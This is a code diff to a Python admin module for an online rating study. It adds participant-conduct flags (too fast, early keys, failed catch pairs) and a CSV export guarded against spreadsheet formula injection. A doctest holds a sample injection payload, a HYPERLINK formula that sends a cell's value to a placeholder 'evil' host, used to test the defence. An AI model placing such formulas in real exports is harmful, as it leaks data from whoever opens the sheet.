@@ -6,7 +6,9 @@ admin/participants.csv``: what an experimenter needs to approve or reject a
 submission on a crowd platform), :func:`status_page` the page of both (``GET
 admin``); all pure, the reading is :class:`~.service.OnlineStudy`'s. The page also
 shows the live load of the process that answers it (the status's ``load``,
-:meth:`.metrics.LoadWindow.view`), when the status has one.
+:meth:`.metrics.LoadWindow.view`), when the status has one. :func:`participant_table_csv`
+writes the table as the CSV an experimenter opens in a spreadsheet, each text cell made
+safe by :func:`spreadsheet_cell`.
 """
 
 from __future__ import annotations
@@ -20,11 +22,23 @@ import numpy as np
 from sbir_study.foundation.html import render
 
 from ..protocol import Protocol, Timing
+from .plausibility import planned_timeline_s, shortest_timeline_s
 
 if TYPE_CHECKING:
     import pandas as pd
 
-__all__ = ["PARTICIPANT_COLUMNS", "participant_table", "status_page", "study_status"]
+__all__ = [
+    "EARLY_KEYS_MAX_SHARE",
+    "EARLY_KEY_S",
+    "FLAGS",
+    "FORMULA_STARTS",
+    "PARTICIPANT_COLUMNS",
+    "participant_table",
+    "participant_table_csv",
+    "spreadsheet_cell",
+    "status_page",
+    "study_status",
+]
 
 #: The columns of the participant table (``admin/participants.csv``), in order.
 PARTICIPANT_COLUMNS = (
@@ -41,7 +55,27 @@ PARTICIPANT_COLUMNS = (
     "completion_code",
     "trials_refused",
     "refusals",
+    "wall_time_s",
+    "planned_time_s",
+    "rt_median_s",
+    "early_key_share",
+    "n_catch_failed",
+    "flag",
 )
+#: A rating key this soon after the pair's onset (s) comes before a person can have seen
+#: the pair: a simple reaction to a light takes about 0.2 s.
+EARLY_KEY_S = 0.150
+#: A participant whose share of rated trials with an early key is above this is flagged.
+EARLY_KEYS_MAX_SHARE = 0.10
+#: The reasons of the participant table's ``flag``, each with what raises it.
+FLAGS = {
+    "too_fast": "wall_time_s below the shortest time its trials can take on a real page",
+    "early_keys": f"early_key_share above {EARLY_KEYS_MAX_SHARE:g}",
+    "catch_failed": "a catch pair rated outside the ratings that pass",
+}
+#: The first characters that make a spreadsheet read a cell as a formula (OWASP's "CSV
+#: injection"): ``=``, ``+``, ``-``, ``@``, tab and carriage return.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def study_status(
@@ -157,12 +191,13 @@ def participant_table(
     Parameters
     ----------
     protocol
-        The study's protocol (the planned durations).
+        The study's protocol (the planned durations, the catch pairs).
     sessions
         The study's sessions: ``id, participant, source_id, list_index, status,
         n_trials, created_at, last_seen_at, finished_at``.
     trials
-        Their stored trials: ``session_id, phase, rating, stim_duration, blank_duration``.
+        Their stored trials: ``session_id, phase, sketch_id, image_id, rating, rt,
+        presses, stim_duration, blank_duration``.
     silent_since
         A running session not heard from since this time (epoch seconds) has
         dropped out (``status`` ``dropped_out``), as in :func:`study_status`.
@@ -186,21 +221,38 @@ def participant_table(
     :data:`~.storage.MAX_REFUSALS_PER_SESSION` kept a session, the rest in serve's log),
     ``refusals`` says which and why: ``trial N (STATUS): reason``, joined by ``; ``.
 
+    What an experimenter checks before approving (:func:`_conduct`): ``wall_time_s``,
+    the session's time on the server's clock (its start to its end, or to its last
+    trial stored while it runs), against ``planned_time_s``, the planned stimulus and
+    blank durations of its stored trials; ``rt_median_s``, the median response time of
+    its rated trials; ``early_key_share``, the share of its rated trials whose first
+    rating key came within :data:`EARLY_KEY_S` of the pair's onset; ``n_catch_failed``,
+    the protocol's catch pairs it rated outside the ratings that pass (main block, as
+    pressed, as ``analyze`` scores them); and ``flag``, each reason of :data:`FLAGS`
+    that holds, joined by ``;`` (empty: none).
+
     Examples
     --------
     >>> import pandas as pd
     >>> sessions = pd.DataFrame({"id": ["s1"], "participant": ["P1"], "source_id": ["P-1"],
     ...     "list_index": [0], "status": ["running"], "n_trials": [3], "created_at": [0.0],
-    ...     "last_seen_at": [60.0], "finished_at": [None]})
+    ...     "last_seen_at": [6.0], "finished_at": [None]})
     >>> trials = pd.DataFrame({"session_id": ["s1", "s1"], "phase": ["main", "main"],
-    ...     "rating": [3, None], "stim_duration": [2.0, 2.01], "blank_duration": [1.0, 1.0]})
+    ...     "sketch_id": "s", "image_id": ["i1", "i2"], "rating": [3, None],
+    ...     "rt": [0.1, None], "presses": ["3@0.1000", None],
+    ...     "stim_duration": [2.0, 2.01], "blank_duration": [1.0, 1.0]})
     >>> table = participant_table(Protocol(), sessions, trials, silent_since=0.0,
     ...     code_of=lambda status: None)
-    >>> table[["status", "trials_stored", "missed_windows", "timing_error_median_ms"]].iloc[0]
-    status                    running
-    trials_stored                   2
-    missed_windows                  1
-    timing_error_median_ms        0.0
+    >>> table[["status", "trials_stored", "missed_windows", "timing_error_median_ms",
+    ...     "wall_time_s", "planned_time_s", "early_key_share", "flag"]].iloc[0]
+    status                       running
+    trials_stored                      2
+    missed_windows                     1
+    timing_error_median_ms           0.0
+    wall_time_s                      6.0
+    planned_time_s                   6.0
+    early_key_share                  0.5
+    flag                      early_keys
     Name: 0, dtype: object
     """
     import pandas as pd
@@ -223,6 +275,7 @@ def participant_table(
     grouped = trials.groupby("session_id")
     stored = grouped.size()
     missed = grouped["missed"].sum()
+    conduct = _conduct(protocol, trials)
     refused: dict[str, list[str]] = {}
     if refusals is not None:
         for row in refusals.itertuples(index=False):
@@ -230,13 +283,16 @@ def participant_table(
             refused.setdefault(row.session_id, []).append(
                 f"trial {trial} ({int(row.status)}): {row.reason}"
             )
-    rows = []
+    rows, shortest = [], []
     for session in sessions.sort_values(["created_at", "participant"]).itertuples(index=False):
+        measures = dict(conduct.get(session.id, _NO_TRIALS))
+        shortest.append(measures.pop("shortest_s"))
         status = session.status
         if status == "running" and session.last_seen_at < silent_since:
             status = "dropped_out"
         error = median.get(session.id)
         finished = session.finished_at
+        ended = session.last_seen_at if finished is None or pd.isna(finished) else finished
         rows.append(
             {
                 "participant": session.participant,
@@ -252,9 +308,107 @@ def participant_table(
                 "completion_code": code_of(status) or "",
                 "trials_refused": len(refused.get(session.id, [])),
                 "refusals": "; ".join(refused.get(session.id, [])),
+                "wall_time_s": round(float(ended - session.created_at), 3),
+                **measures,
             }
         )
-    return pd.DataFrame(rows, columns=list(PARTICIPANT_COLUMNS))
+    table = pd.DataFrame(rows, columns=list(PARTICIPANT_COLUMNS))
+    raised = zip(
+        table["wall_time_s"].to_numpy(float) < np.array(shortest, dtype=float),
+        table["early_key_share"].to_numpy(float) > EARLY_KEYS_MAX_SHARE,  # NaN: not raised
+        table["n_catch_failed"].to_numpy(int) > 0,
+        strict=True,
+    )
+    table["flag"] = [";".join(n for n, up in zip(FLAGS, row, strict=True) if up) for row in raised]
+    return table
+
+
+#: The measures of :func:`_conduct` of a participant with no trial stored.
+_NO_TRIALS = {
+    "planned_time_s": 0.0,
+    "rt_median_s": None,
+    "early_key_share": None,
+    "n_catch_failed": 0,
+    "shortest_s": 0.0,
+}
+
+
+def _conduct(protocol: Protocol, trials: pd.DataFrame) -> dict[str, dict]:
+    """Per session (its id), what its stored ``trials`` say of how it was done: the
+    planned and the shortest possible time of its trials, its median response time, its
+    share of early keys and its catch pairs failed (see :func:`participant_table`)."""
+    import pandas as pd
+
+    if trials.empty:
+        return {}
+    rated = trials["phase"] != "anchor_demo"
+    first_press = _first_press(trials["presses"])
+    catch = {(pair.sketch_id, pair.image_id): pair for pair in protocol.catch}
+    failed = []
+    for phase, sketch_id, image_id, rating in zip(
+        trials["phase"], trials["sketch_id"], trials["image_id"], trials["rating"], strict=True
+    ):
+        pair = catch.get((sketch_id, image_id)) if phase == "main" else None
+        failed.append(
+            pair is not None and pd.notna(rating) and not pair.lowest <= rating <= pair.highest
+        )
+    trials = trials.assign(
+        early=rated & (first_press < EARLY_KEY_S),
+        rated=rated,
+        rated_rt=trials["rt"].where(rated),
+        failed=failed,
+    )
+    conduct = {}
+    for session_id, mine in trials.groupby("session_id"):
+        n_rated = int(mine["rated"].sum())
+        rt = mine["rated_rt"].dropna()
+        conduct[session_id] = {
+            "planned_time_s": round(planned_timeline_s(mine["phase"], protocol.timing), 3),
+            "rt_median_s": round(float(rt.median()), 4) if len(rt) else None,
+            "early_key_share": round(float(mine["early"].sum()) / n_rated, 4) if n_rated else None,
+            "n_catch_failed": int(mine["failed"].sum()),
+            "shortest_s": shortest_timeline_s(mine["phase"], protocol.timing),
+        }
+    return conduct
+
+
+def _first_press(presses: pd.Series) -> pd.Series:
+    """The time of each trial's first rating key from the pair's onset (s; NaN: none), from
+    its ``presses`` (``rating@seconds``, in time order)."""
+    first = presses.fillna("").astype(str).str.split(" ", n=1).str[0]
+    return first.str.partition("@")[2].replace("", "nan").astype(float)
+
+
+def spreadsheet_cell(value: object) -> object:
+    """A cell as a spreadsheet may show it: text that begins with one of
+    :data:`FORMULA_STARTS` gets a ``'`` before it, so that it is read as text and never run
+    as a formula (OWASP, "CSV Injection"); anything else, numbers included (-0.5 stays a
+    number), is returned as it is.
+
+    Examples
+    --------
+    >>> print(spreadsheet_cell('=HYPERLINK("https://evil/?"&A2,"approve")'))
+    '=HYPERLINK("https://evil/?"&A2,"approve")
+    >>> spreadsheet_cell("-0.5"), spreadsheet_cell(-0.5), spreadsheet_cell("P-1")
+    ("'-0.5", -0.5, 'P-1')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def participant_table_csv(table: pd.DataFrame) -> str:
+    """The participant table (:func:`participant_table`) as the CSV of ``GET
+    admin/participants.csv``: every cell of a column that is not numeric through
+    :func:`spreadsheet_cell`; lines end with CR LF (RFC 4180), so that a cell holding a
+    line break of either kind is quoted and never splits its row."""
+    from pandas.api.types import is_numeric_dtype
+
+    safe = table.copy()
+    for column in safe.columns:
+        if not is_numeric_dtype(safe[column]):
+            safe[column] = safe[column].map(spreadsheet_cell)
+    return safe.to_csv(index=False, lineterminator="\r\n")
 
 
 def _utc(epoch: float) -> str:
